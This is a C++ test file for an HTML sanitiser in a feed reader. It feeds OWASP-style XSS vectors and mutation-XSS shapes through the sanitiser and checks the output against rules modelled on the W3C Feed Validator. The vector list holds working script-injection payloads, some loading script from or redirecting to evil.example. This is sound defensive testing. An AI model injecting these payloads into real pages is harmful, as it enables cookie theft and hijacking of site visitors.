    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    R"~(<IMG SRC="jav&#x09;ascript:alert('XSS');">)~",
    R"~(<IMG SRC="jav&#x0A;ascript:alert('XSS');">)~",
    R"~(<IMG SRC="jav&#x0D;ascript:alert('XSS');">)~",
    R"~(<IMG SRC=" &#14;  javascript:alert('XSS');">)~",
    R"~(<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<BODY onload!#$%&()*~+-_.,:;?@[/|\]^`=alert("XSS")>)~",
    R"~(<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<<SCRIPT>alert("XSS");//\<</SCRIPT>)~",
    R"~(<SCRIPT SRC=https://evil.example/xss.js?< B >)~",
    R"~(<SCRIPT SRC=//evil.example/.j>)~",
    R"~(<iframe src=https://evil.example/scriptlet.html <)~",
    R"~(</TITLE><SCRIPT>alert("XSS");</SCRIPT>)~",
    R"~(<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">)~",
    R"~(<BODY BACKGROUND="javascript:alert('XSS')">)~",
    R"~(<IMG DYNSRC="javascript:alert('XSS')">)~",
    R"~(<IMG LOWSRC="javascript:alert('XSS')">)~",
    R"~(<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>)~",
    R"~(<IMG SRC='vbscript:msgbox("XSS")'>)~",
    R"~(<IMG SRC="livescript:[code]">)~",
    R"~(<svg/onload=alert('XSS')>)~",
    R"~(<BODY ONLOAD=alert('XSS')>)~",
    R"~(<BGSOUND SRC="javascript:alert('XSS');">)~",
    R"~(<BR SIZE="&{alert('XSS')}" onclick=x>)~",
    R"~(<LINK REL="stylesheet" HREF="javascript:alert('XSS');">)~",
    R"~(<LINK REL="stylesheet" HREF="https://evil.example/xss.css">)~",
    R"~(<STYLE>@import'https://evil.example/xss.css';</STYLE>)~",
    R"~(<META HTTP-EQUIV="Link" Content="<https://evil.example/xss.css>; REL=stylesheet">)~",
    R"~(<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>)~",
    R"~(<STYLE>@im\port'\ja\vasc\ript:alert("XSS")';</STYLE>)~",
    R"~(<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">)~",
    R"~(exp/*<A STYLE='no\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))'>)~",
    R"~(<STYLE TYPE="text/javascript">alert('XSS');</STYLE>)~",
    R"~(<STYLE>.XSS{background-image:url("javascript:alert('XSS')");}</STYLE><A CLASS=XSS></A>)~",
    R"~(<STYLE type="text/css">BODY{background:url("javascript:alert('XSS')")}</STYLE>)~",
    R"~(<XSS STYLE="xss:expression(alert('XSS'))">)~",
    R"~(<XSS STYLE="behavior: url(xss.htc);">)~",
    R"~(<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">)~",
    R"~(<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">)~",
    R"~(<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert('XSS');">)~",
    R"~(<IFRAME SRC="javascript:alert('XSS');"></IFRAME>)~",
    R"~(<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>)~",
    R"~(<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>)~",
    R"~(<TABLE BACKGROUND="javascript:alert('XSS')">)~",
    R"~(<TABLE><TD BACKGROUND="javascript:alert('XSS')">)~",
    R"~(<DIV STYLE="background-image: url(javascript:alert('XSS'))">)~",
    R"~(<DIV STYLE="background-image:\0075\0072\006C\0028'\006a\0061\0076\0061\0073\0063\0072\0069\0070\0074\003a\0061\006c\0065\0072\0074\0028.1027\0058.1053\0053\0027\0029'\0029">)~",
    R"~(<DIV STYLE="background-image: url(&#1;javascript:alert('XSS'))">)~",
    R"~(<DIV STYLE="width: expression(alert('XSS'));">)~",
    R"~(<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->)~",
    R"~(<BASE HREF="javascript:alert('XSS');//">)~",
    R"~(<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/scriptlet.html"></OBJECT>)~",
    R"~(<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>)~",
    R"~(<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert('XSS')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>)~",
    R"~(<XML SRC="xsstest.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML onclick=x></SPAN>)~",
    R"~(<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time"><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert("XSS")</SCRIPT>"></BODY></HTML>)~",
    R"~(<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert('XSS')</SCRIPT>">)~",
    R"~(<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<SCRIPT a=">" '' SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<SCRIPT "a='>'" SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<SCRIPT a=">'>" SRC="https://evil.example/xss.js"></SCRIPT>)~",
    R"~(<A HREF="javascript:document.location='https://evil.example/'">XSS</A>)~",
    R"~(<A HREF="jav&#x09;ascript&colon;alert(1)">XSS</A>)~",
    // Parser-differential (mutation XSS) shapes that later filters met.
    R"~(<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>)~",
    R"~(<svg><style><img src=x onerror=alert(1)></style></svg>)~",
    R"~(<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>)~",
    R"~(<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>)~",
    R"~(<template><script>alert(1)</script></template><img src=x onerror=alert(2)>)~",
    R"~(<!-- a --!><img src=x onerror=alert(1)> -->)~",
    R"~(<a href="https://ok.example/" href="javascript:alert(1)">dup</a><img src=x onerror=alert(1)>)~",
    R"~(<details open ontoggle=alert(1)>)~",
    R"~(<video><source onerror=alert(1)></video>)~",
    R"~(<button formaction=javascript:alert(1)>x</button>)~",
    R"~(<iframe srcdoc="<script>alert(1)</script>"></iframe>)~",
    R"~(<a href="#" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>)~",
    R"~(<p>x</p><td onclick=alert(1)>y)~",
    R"~(<isindex action=javascript:alert(1) type=image>)~",
};

// Vectors only old Internet Explorer read as script: harmless to an HTML5 parser as they come,
// and still harmless after the sanitiser.
const std::vector<std::string> kOwaspInertVectors = {
    R"~(<IMG SRC=`javascript:alert("it's XSS")`>)~",
    R"~(<IMG SRC= onmouseover="alert('xxs')">)~",              // the handler is src's value
    std::string("<IMG SRC=java\0script:alert(\"XSS\")>", 34),  // NUL reads as U+FFFD
    R"~(<IMG SRC="`<javascript:alert>`('XSS')")~",             // a tag cut off by the end is no tag
    "\xbcscript\xbe"
    "alert(\xa2XSS\xa2)\xbc/script\xbe",
    R"~(<A HREF="http://0x42.0x0000066.0x7.0x93/">XSS</A>)~",
};

TEST(Sanitize, OwaspVectorsLeaveNothingDangerous) {
  for (const auto& v : kOwaspInertVectors) {
    const RewriteResult r = rewrite_html(v, options());
    EXPECT_EQ(joined(problems(r.html)), "") << v << "\n→ " << r.html;
    EXPECT_TRUE(summary_matches(r)) << v;
  }
  for (const auto& v : kOwaspVectors) {
    EXPECT_NE(joined(problems(v)), "") << "not dangerous to begin with: " << v;
    const RewriteResult r = rewrite_html(v, options());
    EXPECT_EQ(joined(problems(r.html)), "") << v << "\n→ " << r.html;
    EXPECT_TRUE(summary_matches(r)) << v;
    EXPECT_EQ(rewrite_html(r.html, options()).html, r.html) << "idempotent: " << v;
  }
}

TEST(Sanitize, OwaspVectorsWithIframeHostsConfigured) {
  for (const auto& v : kOwaspVectors) {
    const RewriteResult r = rewrite_html(v, options(kHosts));
    EXPECT_EQ(joined(problems(r.html, kHosts)), "") << v << "\n→ " << r.html;
    EXPECT_TRUE(summary_matches(r)) << v;
  }
}

// --- the W3C Feed Validator ---------------------------------------------------------------------
// Its content checks, as it makes them: every element it knows must be among its acceptable
// elements (else "should not contain X tag"), every attribute among its acceptable attributes or
// data-* (else "should not contain X attribute"), and "<?import" must not occur. Lists from its
// validators.py, written out here; style is exempt (see sanitize.hpp).

const std::vector<std::string> kValidatorHtmlTags = {
    "a",          "abbr",       "acronym",  "address",  "applet",   "area",        "article",
    "aside",      "audio",      "b",        "base",     "basefont", "bdi",         "bdo",
    "big",        "blockquote", "body",     "br",       "button",   "canvas",      "caption",
    "center",     "cite",       "code",     "col",      "colgroup", "command",     "data",
    "datagrid",   "datalist",   "dd",       "del",      "details",  "dfn",         "dialog",
    "dir",        "div",        "dl",       "dt",       "em",       "eventsource", "fieldset",
    "figcaption", "figure",     "font",     "footer",   "form",     "frame",       "frameset",
    "h1",         "h2",         "h3",       "h4",       "h5",       "h6",          "head",
    "header",     "hgroup",     "hr",       "html",     "i",        "iframe",      "img",
    "input",      "ins",        "isindex",  "kbd",      "label",    "legend",      "li",
    "link",       "m",          "main",     "mark",     "map",      "menu",        "meta",
    "meter",      "nav",        "noframes", "noscript", "object",   "ol",          "optgroup",
    "option",     "output",     "p",        "param",    "picture",  "pre",         "progress",
    "q",          "rp",         "rt",       "ruby",     "s",        "samp",        "script",
    "section",    "select",     "slot",     "small",    "source",   "span",        "strike",
    "strong",     "style",      "sub",      "summary",  "sup",      "table",       "tbody",
    "td",         "template",   "textarea", "tfoot",    "th",       "thead",       "time",
    "title",      "tr",         "track",    "tt",       "u",        "ul",          "var",
    "xmp",        "plaintext",  "embed",    "comment",  "listing",  "video",       "wbr"};

const std::vector<std::string> kValidatorAcceptableElements = {
    "a",        "abbr",   "acronym",  "address",     "area",     "article",    "aside",  "audio",
    "b",        "bdi",    "big",      "blockquote",  "br",       "button",     "canvas", "caption",
    "center",   "cite",   "code",     "col",         "colgroup", "command",    "data",   "datagrid",
    "datalist", "dd",     "del",      "details",     "dfn",      "dialog",     "dir",    "div",
    "dl",       "dt",     "em",       "eventsource", "fieldset", "figcaption", "figure", "footer",
    "font",     "form",   "header",   "h1",          "h2",       "h3",         "h4",     "h5",
    "h6",       "hgroup", "hr",       "i",           "img",      "input",      "ins",    "keygen",
    "kbd",      "label",  "legend",   "li",          "m",        "main",       "map",    "mark",
    "menu",     "meter",  "multicol", "nav",         "nextid",   "ol",         "output", "optgroup",
    "option",   "p",      "picture",  "pre",         "progress", "q",          "rp",     "rt",
    "ruby",     "s",      "samp",     "section",     "select",   "small",      "sound",  "source",
    "spacer",   "span",   "strike",   "strong",      "sub",      "summary",    "sup",    "table",
    "tbody",    "td",     "template", "textarea",    "time",     "tfoot",      "th",     "thead",
    "tr",       "track",  "tt",       "u",           "ul",       "var",        "video",  "noscript",
    "wbr"};

const std::vector<std::string> kValidatorAcceptableAttributes = {"abbr",
                                                                 "accept",
                                                                 "accept-charset",
                                                                 "accesskey",
                                                                 "action",
                                                                 "align",
                                                                 "allow",
                                                                 "allowfullscreen",
                                                                 "allowpaymentrequest",
                                                                 "alt",
                                                                 "as",
                                                                 "autoplay",
                                                                 "autocapitalize",
                                                                 "autocomplete",
                                                                 "autofocus",
                                                                 "axis",
                                                                 "background",
                                                                 "balance",
                                                                 "bgcolor",
                                                                 "bgproperties",
                                                                 "border",
                                                                 "bordercolor",
                                                                 "bordercolordark",
                                                                 "bordercolorlight",
                                                                 "bottompadding",
                                                                 "cellpadding",
                                                                 "cellspacing",
                                                                 "ch",
                                                                 "challenge",
                                                                 "char",
                                                                 "charoff",
                                                                 "choff",
                                                                 "charset",
                                                                 "checked",
                                                                 "cite",
                                                                 "class",
                                                                 "clear",
                                                                 "color",
                                                                 "cols",
                                                                 "colspan",
                                                                 "compact",
                                                                 "contenteditable",
                                                                 "coords",
                                                                 "crossorigin",
                                                                 "data",
                                                                 "datafld",
                                                                 "datapagesize",
                                                                 "datasrc",
                                                                 "datetime",
                                                                 "decoding",
                                                                 "default",
                                                                 "delay",
                                                                 "dir",
                                                                 "dirname",
                                                                 "disabled",
                                                                 "download",
                                                                 "draggable",
                                                                 "dynsrc",
                                                                 "enctype",
                                                                 "end",
                                                                 "enterkeyhint",
                                                                 "face",
                                                                 "for",
                                                                 "form",
                                                                 "formenctype",
                                                                 "frame",
                                                                 "galleryimg",
                                                                 "gutter",
                                                                 "headers",
                                                                 "height",
                                                                 "hidefocus",
                                                                 "hidden",
                                                                 "high",
                                                                 "href",
                                                                 "hreflang",
                                                                 "hspace",
                                                                 "icon",
                                                                 "id",
                                                                 "inputmode",
                                                                 "is",
                                                                 "ismap",
                                                                 "itemid",
                                                                 "itemprop",
                                                                 "itemref",
                                                                 "itemscope",
                                                                 "itemtype",
                                                                 "kind",
                                                                 "keytype",
                                                                 "label",
                                                                 "lang",
                                                                 "leftspacing",
                                                                 "loading",
                                                                 "list",
                                                                 "longdesc",
                                                                 "loop",
                                                                 "loopcount",
                                                                 "loopend",
                                                                 "loopstart",
                                                                 "low",
                                                                 "lowsrc",
                                                                 "max",
                                                                 "maxlength",
                                                                 "media",
                                                                 "method",
                                                                 "min",
                                                                 "minlength",
                                                                 "multiple",
                                                                 "muted",
                                                                 "name",
                                                                 "nohref",
                                                                 "nonce",
                                                                 "noshade",
                                                                 "nowrap",
                                                                 "open",
                                                                 "optimum",
                                                                 "pattern",
                                                                 "ping",
                                                                 "placeholder",
                                                                 "playsinline",
                                                                 "point-size",
                                                                 "poster",
                                                                 "preload",
                                                                 "prompt",
                                                                 "pqg",
                                                                 "radiogroup",
                                                                 "readonly",
                                                                 "referrerpolicy",
                                                                 "rel",
                                                                 "repeat-max",
                                                                 "repeat-min",
                                                                 "replace",
                                                                 "required",
                                                                 "rev",
                                                                 "reversed",
                                                                 "rightspacing",
                                                                 "rows",
                                                                 "rowspan",
                                                                 "rules",
                                                                 "scope",
                                                                 "selected",
                                                                 "shape",
                                                                 "size",
                                                                 "sizes",
                                                                 "span",
                                                                 "spellcheck",
                                                                 "src",
                                                                 "srclang",
                                                                 "srcset",
                                                                 "start",
                                                                 "step",
                                                                 "summary",
                                                                 "suppress",
                                                                 "tabindex",
                                                                 "target",
                                                                 "template",
                                                                 "title",
                                                                 "toppadding",
                                                                 "translate",
                                                                 "type",
                                                                 "unselectable",
                                                                 "usemap",
                                                                 "urn",
                                                                 "valign",
                                                                 "value",
                                                                 "variable",
                                                                 "volume",
                                                                 "vspace",
                                                                 "vrml",
                                                                 "width",
                                                                 "wrap",
                                                                 "xml:lang",
                                                                 "xmlns"};

// The warnings the validator would give about `html`, parsed as it does (a fragment).
std::vector<std::string> validator_warnings(const std::string& html) {
  std::vector<std::string> warnings;
  if (lower(html).find("<?import ") != std::string::npos) warnings.push_back("?import");
  const auto tree = lib::HtmlTree::parse(html, {.fragment_context = GUMBO_TAG_DIV});
  if (!tree) return {"unparseable"};
  const auto has = [](const std::vector<std::string>& list, const std::string& s) {
    return std::find(list.begin(), list.end(), s) != list.end();
  };
  std::vector<const GumboNode*> stack{tree->root()};
  while (!stack.empty()) {
    const GumboNode* node = stack.back();
    stack.pop_back();
    if (node->type == GUMBO_NODE_ELEMENT && node != tree->root()) {
      const GumboElement& e = node->v.element;
      GumboStringPiece piece = e.original_tag;
      gumbo_tag_from_original_text(&piece);
      const std::string name = e.tag == GUMBO_TAG_UNKNOWN
                                   ? lower(std::string(lib::view(piece)))
                                   : std::string(gumbo_normalized_tagname(e.tag));
      if (has(kValidatorHtmlTags, name) && !has(kValidatorAcceptableElements, name)) {
        warnings.push_back("should not contain " + name + " tag");
      } else {
        for (unsigned i = 0; i < e.attributes.length; ++i) {
          const std::string key = lib::attribute(e.attributes, i)->name;
          // `controls` on <video> and <audio> is kept on purpose (issue 12) and its warning
          // accepted: VideoAndAudioKeepControls checks that it stays.
          const bool media_controls = key == "controls" && (name == "video" || name == "audio");
          if (key != "style" && !key.starts_with("data-") && !media_controls &&
              !has(kValidatorAcceptableAttributes, key)) {
            warnings.push_back("should not contain " + key + " attribute");
          }
        }
      }
    }
    const GumboVector& children = lib::children_of(node);
    for (unsigned i = 0; i < children.length; ++i)
      stack.push_back(lib::child(children, i));
  }
  return warnings;
}

TEST(Sanitize, FeedValidatorSecurityWarningsDoNotApply) {
  // Every element the validator knows (and svg, math, unknown ones), each with the attributes it
  // names as evil, the ones it accepts, and some it does not.
  const std::string attributes =
      R"~( onabort="a()" onblur="a()" onchange="a()" onclick="a()" ondblclick="a()" onerror="a()" onfocus="a()" onkeydown="a()" onkeypress="a()" onkeyup="a()" onload="a()" onmousedown="a()" onmouseout="a()" onmouseover="a()" onmouseup="a()" onreset="a()" onresize="a()" onsubmit="a()" onunload="a()" ontoggle="a()" formaction="https://a.example/" srcdoc="x" xmlns="http://www.w3.org/1999/xhtml" powered-by="xiumi.us" controls sandbox="allow-scripts" frameborder="0" contenteditable class="c" id="i" title="t" data-x="1" style="color:red" href="https://a.example/" src="https://a.example/x.png" width="1" align="left")~";
  std::string input;
  std::vector<std::string> names = kValidatorHtmlTags;
  for (const char* extra : {"svg", "math", "my-widget", "o:p", "marquee", "xml"})
    names.push_back(extra);
  for (const auto& name : names) {
    input += "<" + name + attributes + ">" + name + " text";
  }
  input += R"~(<?import namespace="t" implementation="#default#time2">)~";
  for (const auto& name : names) {
    input += "</" + name + ">";
  }
  ASSERT_GT(validator_warnings(input).size(), 100u) << "the check must be able to fail";
  for (const auto& hosts : {std::vector<std::string>{}, kHosts}) {
    const RewriteResult r = rewrite_html(input, options(hosts));
    EXPECT_EQ(joined(validator_warnings(r.html)), "") << r.html;
    EXPECT_EQ(joined(problems(r.html)), "") << r.html;
    EXPECT_TRUE(summary_matches(r));
  }
  // Each element on its own, too: inside others, many would be dropped with their parent.
  for (const auto& name : names) {
    const std::string one = "<" + name + attributes + ">" + name + " text</" + name + ">";
    const RewriteResult r = rewrite_html(one, options());
    EXPECT_EQ(joined(validator_warnings(r.html)), "") << name << " → " << r.html;
    EXPECT_EQ(joined(problems(r.html)), "") << name << " → " << r.html;
    EXPECT_TRUE(summary_matches(r)) << name;
  }
}

// Issue 12: without `controls` most readers show a video that cannot be started.
TEST(Sanitize, VideoAndAudioKeepControls) {
  const RewriteResult r = rewrite_html(
      R"~(<video src="https://v.example/a.mp4" controls autoplay></video><audio src="https://v.example/a.mp3" controls="controls"></audio><img src="https://a.example/i.png" controls>)~",
      options());
  EXPECT_EQ(
      r.html,
      R"~(<video src="https://v.example/a.mp4" controls></video><audio src="https://v.example/a.mp3" controls="controls"></audio><img src="https://a.example/i.png" referrerpolicy="no-referrer">)~");
}

TEST(Sanitize, AnAllowedIframeIsTheValidatorsOnlyComplaint) {
  const RewriteResult r = rewrite_html(
      R"~(<iframe src="https://v.qq.com/x" frameborder="0"></iframe>)~", options(kHosts));
  EXPECT_EQ(validator_warnings(r.html), std::vector<std::string>{"should not contain iframe tag"});
}

// --- the seeds' shapes --------------------------------------------------------------------------

TEST(Sanitize, SeedShapesPassByteForByte) {
  const std::string dir = std::string(FEEDD_TEST_DATA) + "/article/sanitize/";
  for (const char* name : {"seed_guokr.html", "seed_zaker.html", "seed_zaker_strong.html"}) {
    const std::string input = read_file(dir + name);
    ASSERT_GT(input.size(), 500u) << name;
    const RewriteResult r = rewrite_html(input, options());
    EXPECT_EQ(r.html, input) << name;
    EXPECT_TRUE(summary_matches(r)) << name;
    EXPECT_EQ(joined(problems(input)), "") << name;
  }
}

// What the seeds show that does not survive: the editor's powered-by and opera-tn-ra-cell
// attributes, an empty <svg> spacer, ZAKER's valueless onclick. FEEDD_UPDATE_GOLDEN=1 rewrites
// the .out.html file; review the diff before committing it.
TEST(Sanitize, SeedFeaturesRemoved) {
  const std::string dir = std::string(FEEDD_TEST_DATA) + "/article/sanitize/";
  const std::string input = read_file(dir + "seed_extras.in.html");
  const RewriteResult r = rewrite_html(input, options());
  const std::string out_path = dir + "seed_extras.out.html";
  // Only "1" rewrites, as in emit_test; the comparison with what was just written is skipped.
  if (const char* update = std::getenv("FEEDD_UPDATE_GOLDEN");
      update && std::string(update) == "1") {
    std::ofstream(out_path) << r.html;
  } else {
    EXPECT_EQ(r.html, read_file(out_path));
  }
  EXPECT_EQ(joined(problems(r.html)), "");
  EXPECT_TRUE(summary_matches(r));
  EXPECT_EQ(r.first_image,
            "https://cors.zfour.workers.dev/?http://img.example.cn/202105/b4_1024.jpg");
}

TEST(Sanitize, MakeArticlePassesIframeHosts) {
  parse::FeedItem item;
  item.title = "视频";
  item.link = "https://www.example.com/v/1.html";
  item.html = R"~(<p>看</p><iframe src="//player.bilibili.com/player.html?bvid=BV1"></iframe>)~";
  Context context;
  EXPECT_EQ(make_article(item, context)->html, "<p>看</p>");
  context.iframe_hosts = {"player.bilibili.com"};
  EXPECT_EQ(
      make_article(item, context)->html,
      R"~(<p>看</p><iframe src="https://player.bilibili.com/player.html?bvid=BV1" sandbox="allow-scripts allow-same-origin allow-popups"></iframe>)~");
}

}  // namespace
}  // namespace feedd::article
